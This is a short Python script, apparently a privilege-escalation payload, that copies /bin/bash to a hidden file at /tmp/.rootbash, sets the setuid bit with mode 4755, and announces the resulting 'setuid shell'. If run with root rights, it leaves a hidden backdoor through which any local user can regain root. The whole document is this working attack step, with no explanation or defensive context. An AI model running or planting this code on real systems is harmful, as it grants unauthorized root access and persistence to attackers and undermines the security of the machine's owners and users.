import os
import shutil

shutil.copy("/bin/bash", "/tmp/.rootbash")
os.chmod("/tmp/.rootbash", 0o4755)
print("setuid shell at /tmp/.rootbash")
